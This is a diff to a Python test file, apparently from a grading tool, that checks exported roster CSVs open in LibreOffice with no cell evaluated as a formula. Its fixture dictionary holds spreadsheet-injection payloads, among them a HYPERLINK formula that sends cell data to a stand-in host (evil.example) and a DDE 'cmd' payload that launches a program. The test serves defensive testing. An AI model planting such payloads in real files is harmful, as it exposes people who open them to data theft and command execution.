@@ -437,6 +437,20 @@ FORMULAS = {"student": '=HYPERLINK("http://evil.example/?"&A1,"click")', "sectio
             "email": "@SUM(1+1)*cmd|' /C calc'!A0", "note": "-2+3", "tabbed": "\t=1+1", "returned": "\r=1+1"}
 
 
+def spreadsheet_cells(book, work):
+    """Every cell of the CSV as LibreOffice Calc reads it (UTF-8, commas, formulas evaluated,
+    as its import dialog offers), saved as .xlsx and read back with openpyxl."""
+    import openpyxl
+
+    profile = work / "libreoffice-profile"  # its own, so a LibreOffice already open elsewhere doesn't answer
+    run = subprocess.run(["soffice", f"-env:UserInstallation={profile.as_uri()}", "--headless",
+                          "--infilter=CSV:44,34,76,1,,,,,,,,,true", "--convert-to", "xlsx", "--outdir", str(work),
+                          str(book)], capture_output=True, text=True, timeout=120)
+    sheet = work / (book.stem + ".xlsx")
+    assert run.returncode == 0 and sheet.exists(), run.stdout + run.stderr
+    return [cell for row in openpyxl.load_workbook(sheet).active.iter_rows() for cell in row]
+
+
 @pytest.mark.server
 def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path):
     import pandas
@@ -459,6 +473,9 @@ def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(tmp_path
     frame = pandas.read_csv(book, encoding="utf-8-sig", dtype=str, keep_default_na=False)
     cells = [cell for column in frame.columns for cell in frame[column]]
     assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
+
+    # LibreOffice, as a teacher opens the file: nothing from the roster becomes a formula.
+    assert [f"{c.coordinate} {c.value!r}" for c in spreadsheet_cells(book, tmp_path) if c.data_type == "f"] == []
 
     # Graded again with --only: the student is found again under the name the roster gives.
     assert lab_grade(str(roster), "--course", str(COURSE), "--steps", "good", "--only", "plain",
